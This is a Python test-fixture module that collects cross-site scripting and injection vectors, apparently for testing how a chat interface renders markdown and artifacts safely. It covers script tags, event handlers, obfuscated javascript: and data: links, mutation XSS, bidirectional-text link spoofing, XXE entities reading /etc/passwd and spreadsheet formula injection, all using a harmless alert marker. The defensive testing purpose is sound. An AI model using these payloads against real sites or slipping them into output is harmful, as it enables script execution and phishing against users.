"""Messages that try to run a script, to load something, or to lead elsewhere than they say.

A script that runs sets `window.ran` or opens a dialog; both are noticed.
"""
RUN = "window.ran=1;alert(1)"
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def artifact(kind, payload, attributes=""):
    """A message with one artifact."""
    return f'<artifact identifier="x" type="{kind}" title="T" {attributes}>\n{payload}\n</artifact>\n'


def code(language, payload):
    """A message with a fence."""
    return f"```{language}\n{payload}\n```\n"


def html(payload):
    """An HTML page as an artifact."""
    return artifact("text/html", payload)


def svg(payload):
    """An SVG as an artifact."""
    return artifact("image/svg+xml", f"<svg {SVG} viewBox='0 0 9 9'>{payload}</svg>")


def form(element, rest=""):
    """A user interface of one element."""
    return artifact(
        "application/vnd.json-render+json",
        '{"root":"r","elements":{"r":' + element + rest + "}}")


MARKDOWN = {
    "script in a paragraph": f"a <script>{RUN}</script> b",
    "script block": f"<script>\n{RUN}\n</script>\n\n<script src=https://e.example/x.js></script>",
    "event of an image": f"<img src=x onerror='{RUN}'> and <IMG SRC=x OnErRoR={RUN}>",
    "events of other elements": f"<body onload={RUN}><details open ontoggle={RUN}><video><source onerror={RUN}>",
    "autofocus": f"<input autofocus onfocus='{RUN}'><select autofocus onfocus='{RUN}'>",
    "javascript link": f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](<javascript:{RUN}>)",
    "javascript link with controls": f"[a](<java\tscript:{RUN}>) [b](&#x6A;avascript:{RUN}) [c](\x01javascript:{RUN})",
    "javascript link with entities": f"[a](javascript&colon;{RUN}) [b](java&Tab;script:{RUN}) [c](java&NewLine;script:{RUN})",
    "javascript autolink": f"<javascript:{RUN}> <vbscript:msgbox> <data:text/html,x>",
    "javascript reference": f"[a]\n\n[a]: javascript:{RUN}\n\n[b][b] ![c][b]\n\n[b]: data:text/html,<script>{RUN}</script>",
    "data link": f"[a](data:text/html,<script>{RUN}</script>) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data link to SVG": f"[a](data:image/svg+xml,<svg/onload={RUN}>) ![b](data:image/svg+xml,<svg/onload={RUN}>)",
    "other schemes": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](filesystem:x) [e](view-source:x) [f](ms-word:x)",
    "link title": f"[a](https://e.example '\" onmouseover=\"{RUN}') [b](https://e.example \"x' onclick='{RUN}\")",
    "link target": f"[a](https://e.example/\"onmouseover=\"{RUN}) [b](<https://e.example/\" autofocus onfocus=\"{RUN}>)",
    "image alternative": f"![\" onerror=\"{RUN}](x) ![a](x\"onerror=\"{RUN}) ![<script>{RUN}</script>](https://e.example/i.png)",
    "remote images": "![a](https://e.example/i.png) ![b](//e.example/i.png) <img srcset='https://e.example/i.png 2x'>",
    "user name in an address": "[https://bank.example](https://bank.example@e.example/) <https://bank.example:x@e.example>",
    "link in a link": f"[![a](javascript:{RUN})](javascript:{RUN}) [a [b](javascript:{RUN})](https://e.example)",
    "table cells": f"| <script>{RUN}</script> | [a](javascript:{RUN}) |\n|:--|--:|\n| <td onclick={RUN}> | </td></table><script>{RUN}</script> |",
    "fence with end tags": code("html", f"</code></pre><script>{RUN}</script>"),
    "language of a fence": code(f'js" onclick="{RUN}', "x") + code(f"js\"><script>{RUN}</script>", "y"),
    "code span": f"`</code><script>{RUN}</script>` ``\"onclick=\"{RUN}``",
    "heading names": "# constructor\n\n# __proto__\n\n# \" onclick=\"alert(1)\n\n[a](#constructor) [b](#\"onclick=\"alert(1))",
    "footnotes": f"a[^\"onclick=\"{RUN}] b[^x]\n\n[^x]: <script>{RUN}</script>\n[^\"onclick=\"{RUN}]: y",
    "alert titles": f"> [!NOTE] <img src=x onerror={RUN}>\n> text\n\n> [!\"onclick=\"{RUN}]\n> x",
    "meta and base": "<meta http-equiv=refresh content='0;url=https://e.example'><base href=https://e.example/>\n\n[a](b)",
    "forms": f"<form action=javascript:{RUN}><button formaction=javascript:{RUN}>a</button><input type=image src=x onerror={RUN}></form>",
    "frames": f"<iframe src=javascript:{RUN}></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe><object data=https://e.example><embed src=https://e.example>",
    "styles": f"<style>@import 'https://e.example/x.css';*{{background:url(https://e.example)}}</style><p style='background:url(https://e.example)'>a</p>",
    "links of resources": "<link rel=stylesheet href=https://e.example/x.css><link rel=prefetch href=https://e.example><link rel=manifest href=x>",
    "end of the page": f"</main></body></html><script>{RUN}</script>\n\n</style><script>{RUN}</script>",
    "comments": f"<!--><script>{RUN}</script>--> <!--a--!><script>{RUN}</script>\n\n<![CDATA[x]]><script>{RUN}</script>\n\n<?php <script>{RUN}</script> ?>",
    "elements with raw text": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>\n\n<textarea><img title='</textarea><img src=x onerror={RUN}>'>\n\n<xmp><img title='</xmp><img src=x onerror={RUN}>'>",
    "MathML with a link": f"<math><mtext><a xlink:href=javascript:{RUN}>x</a><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></mtext></math>",
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "formulas": f"$\\href{{javascript:{RUN}}}{{x}}$ $\\text{{</mtext><script>{RUN}</script>}}$ $</math><img src=x onerror={RUN}>$ $$\\url{{javascript:{RUN}}} \\class{{x}}{{y}} \\style{{background:url(https://e.example)}}{{z}}$$",
    "formula with a script": f"$$\\begin{{aligned}} a &= \\text{{<img src=x onerror={RUN}>}} \\\\ \\unknown{{<script>}} \\end{{aligned}}$$\n\n$\\color{{red;background:url(https://e.example)}}{{x}}$ $\\includegraphics{{https://e.example}}$",
    "bidirectional text": "[\u202ehttps://bank.example\u202c](https://e.example) `\u202egnp.exe` \u2066x",
    "controls": f"<scr\x02ipt>{RUN}</scr\x02ipt> <img src=x \x0conerror={RUN}> [a](java\x02script:{RUN}) \x1b]8;;https://e.example\x07",
    "half characters": "\ud83dx <\udc00script> &#xD800; &#0; &#x110000; &lt;script&gt;",
    "reasoning and tools": f"<think></div></details><script>{RUN}</script></think>\n<tool_call>\n{{\"name\":\"<img src=x onerror={RUN}>\",\"arguments\":{{\"a\":\"</div>\"}}}}\n</tool_call>",
    "many open tags": "<div><b><i><a href='" * 40 + f"javascript:{RUN}",
}

ARTIFACTS = {
    "attributes": f"<artifact identifier='\" onclick=\"{RUN}' type='text/csv' title='</title></section><script>{RUN}</script>' language='\"><img src=x onerror={RUN}>' version='1\" onclick=\"x'>\na,b\n</artifact>",
    "type": f"<artifact identifier=x type='\"><script>{RUN}</script>' title='\" autofocus onfocus=\"{RUN}'>\n<script>{RUN}</script>\n</artifact>",
    "identifier of a part of the page": artifact("text/csv", "a\n1").replace('"x"', '"content"') + artifact("text/csv", "a\n2").replace('"x"', '"b0-1"'),
    "HTML: scripts and events": html(f"<body onload={RUN}><script>{RUN}</script><p onclick={RUN}>a<svg onload={RUN}><script>{RUN}</script></svg><a href=javascript:{RUN}>b</a>"),
    "HTML: addresses": html(f"<base href='javascript:/a/'><a href=/b>b</a><a href=' &#1;javascript:{RUN}'>c</a><area href=javascript:{RUN}><a href='https://e.example' ping=https://f.example target=_blank>d</a><form action=https://e.example><input type=submit></form>"),
    "HTML: images": html("<img src=https://e.example/1.png srcset='https://e.example/2.png 2x'><picture><source srcset=https://e.example/3.png><img></picture><video poster=https://e.example/4.png><audio src=https://e.example><input type=image src=https://e.example/5.png><table background=https://e.example/6.png><tr><td>x"),
    "HTML: styles and refresh": html("<meta http-equiv=refresh content='0;url=javascript:alert(1)'><style>body{display:none;background:url(https://e.example)}</style><link rel=stylesheet href=https://e.example><p style='position:fixed;inset:0'>over everything</p>"),
    "HTML: frames and templates": html(f"<iframe srcdoc='<script>top.ran=1</script>'></iframe><object data='data:text/html,<script>{RUN}</script>'></object><template><script>{RUN}</script></template><portal src=x></portal><div><template shadowrootmode=open><script>{RUN}</script></template></div>"),
    "HTML: controls": html(f"<form><input name=cookie value='\" onfocus=\"{RUN}'><button formaction=javascript:{RUN}>a</button><select><option>\"><script>{RUN}</script></select><textarea></textarea><script>{RUN}</script></form>"),
    "HTML: cells": html(f"<table><tr><th onclick={RUN}>a<script>{RUN}</script><td><a href='data:text/html,x'>b</a></table>"),
    "SVG: script and events": svg(f"<script>{RUN}</script><g onload='{RUN}'><a xlink:href='javascript:{RUN}'><text>x</text></a></g><animate onbegin='{RUN}' attributeName='x' dur='1s'/>"),
    "SVG: references": svg("<image href='https://e.example/x.png'/><use href='https://e.example/x.svg#a'/><use href='data:image/svg+xml,x#a'/><style>@import 'https://e.example';</style><rect fill='url(https://e.example#g)'/>"),
    "SVG: HTML inside": svg(f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:{RUN}'/></foreignObject><set attributeName='href' to='javascript:{RUN}'/>"),
    "SVG: entities": artifact("image/svg+xml", f'<!DOCTYPE svg [<!ENTITY a "<script>{RUN}</script>"><!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY c "&a;&a;&a;&a;">]><svg {SVG}><text>&a;&b;&c;</text></svg>'),
    "JSON: keys and values": artifact("application/json", f'{{"<script>{RUN}</script>":"</span><img src=x onerror={RUN}>","__proto__":{{"x":"\\u003cscript\\u003e"}},"a\\" onclick=\\"{RUN}":"javascript:{RUN}"}}'),
    "CSV: cells": artifact("text/csv", f'<b>,"""onclick=""{RUN}"\n=HYPERLINK("javascript:alert(1)"),</td><script>{RUN}</script>\njavascript:alert(1),data:text/html;x'),
    "diff": artifact("application/vnd.ant.code", f"--- a/<script>{RUN}</script>\n+++ b/\"onclick=\"{RUN}\n@@ -1 +1 @@\n-<img src=x onerror={RUN}>\n+</ins></pre><script>{RUN}</script>", 'language="diff"'),
    "code": artifact("application/vnd.ant.code", f'let a = "</span></code></pre><script>{RUN}</script>" // "onclick="{RUN}"', 'language="swift\\" onclick=\\"x"'),
    "React": artifact("application/vnd.ant.react", f"export default () => <div dangerouslySetInnerHTML={{{{__html: '<script>{RUN}</script>'}}}} />"),
    "Mermaid: labels and clicks": artifact("application/vnd.ant.mermaid", f'graph TD\nA["<img src=x onerror={RUN}>"] -->|"<script>{RUN}</script>"| B[</text><script>{RUN}</script>]\nclick A "javascript:{RUN}" "tip"\nclick B href "data:text/html,x"\nstyle A fill:url(https://e.example)\nclassDef x fill:red;background:url(https://e.example)'),
    "graph: labels and links": artifact("application/vnd.artifactkit.flow+json", f'{{"nodes":[{{"id":"a\\" onclick=\\"x","data":{{"label":"</text><script>{RUN}</script>","href":"javascript:{RUN}"}}}},{{"id":"<b>","data":{{"label":"]]>"}}}}],"edges":[{{"id":"1","sourceNodeID":"a\\" onclick=\\"x","targetNodeID":"<b>","data":{{"label":"\\"><script>{RUN}</script>"}}}}]}}'),
    "Vega-Lite: data and links": artifact("application/vnd.vegalite.v5+json", f'{{"title":"</title><script>{RUN}</script>","data":{{"values":[{{"a":"<script>{RUN}</script>","b":1,"u":"javascript:{RUN}"}},{{"a":"\\"onclick=\\"x","b":2,"u":"data:text/html,x"}}]}},"mark":"bar","encoding":{{"x":{{"field":"a","title":"<img src=x onerror={RUN}>"}},"y":{{"field":"b","type":"quantitative"}},"href":{{"field":"u"}}}}}}'),
    "Vega-Lite: address of data": artifact("application/vnd.vegalite.v5+json", '{"data":{"url":"https://e.example/x.csv"},"mark":{"type":"image","url":"https://e.example/x.png"},"encoding":{"x":{"field":"a"},"url":{"value":"https://e.example"}}}'),
    "GeoJSON: names": artifact("application/geo+json", f'{{"type":"FeatureCollection","features":[{{"type":"Feature","properties":{{"name":"</text><script>{RUN}</script>","marker-symbol":"https://e.example","fill":"url(https://e.example)"}},"geometry":{{"type":"Point","coordinates":[1,2]}}}}]}}'),
    "Turtle: names and literals": artifact("text/turtle", f'<javascript:{RUN}> <http://e.example/"onclick=> "<script>{RUN}</script>" .\n<http://e.example/a> <http://e.example/p> <data:text/html,x>, "\\u003cimg src=x onerror={RUN}>" .'),
    "JSON-LD: contexts": artifact("application/ld+json", f'{{"@context":"https://e.example/context.jsonld","@id":"javascript:{RUN}","name":"<script>{RUN}</script>","url":{{"@id":"data:text/html,x"}}}}'),
    "LaTeX": artifact("application/x-latex", f"\\section{{<script>{RUN}</script>}}\n\\href{{javascript:{RUN}}}{{x}} \\url{{javascript:{RUN}}} \\input{{/etc/passwd}}\n\\[ \\text{{</math><script>{RUN}</script>}} \\]"),
    "images": "".join(artifact(kind, payload) for kind, payload in [
        ("image/png", f"data:text/html,<script>{RUN}</script>"), ("image/png", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"),
        ("image/png", "https://e.example/x.png"), ("image/gif", "data:image/gif;base64,R0lGODlhL8==\" onerror=\"alert(1)"), ("image/jpeg", f"\"><script>{RUN}</script>")]),
    "models": artifact("model/gltf+json", f'{{"asset":{{"version":"2.0","generator":"<script>{RUN}</script>"}},"buffers":[{{"uri":"https://e.example/x.bin"}}],"images":[{{"uri":"javascript:{RUN}"}}]}}'),
    "form: labels": form(f'{{"type":"Card","props":{{"title":"<script>{RUN}</script>","subtitle":"\\"onclick=\\"x"}},"children":["b","t","s"]}}', f',"b":{{"type":"Button","props":{{"label":"</button><img src=x onerror={RUN}>","action":"javascript:{RUN}"}}}},"t":{{"type":"TextField","props":{{"placeholder":"</span><script>{RUN}</script>","value":"\\" autofocus onfocus=\\"{RUN}"}}}},"s":{{"type":"Slider","props":{{"label":"\\"><script>{RUN}</script>","min":0,"max":1e308,"value":0.5}}}}'),
    "form: links and images": form(f'{{"type":"VStack","children":["l","m","i","j"]}}', f',"l":{{"type":"Link","props":{{"title":"a","url":"javascript:{RUN}"}}}},"m":{{"type":"Link","props":{{"label":"a","title":"<b>","href":"data:text/html,x","url":" javascript:x"}}}},"i":{{"type":"Image","props":{{"url":"https://e.example/x.png","source":"javascript:x"}}}},"j":{{"type":"Image","props":{{"url":"data:image/svg+xml,<svg onload={RUN}>"}}}}'),
    "form: colors and names": form('{"type":"Text","props":{"text":"a","color":"red;background:url(https://e.example)","foregroundColor":"#fff\\" onclick=\\"x","style":"background:url(x)"},"on":{"tap":"alert(1)"}}', f',"\\" onclick=\\"{RUN}":{{"type":"<script>{RUN}</script>"}}'),
}

# The vectors by name; of lone surrogates, as bytes that are not UTF-8.
VECTORS = {
    name: text.encode("utf-8", "surrogatepass") for name, text in {**MARKDOWN, **ARTIFACTS}.items()}
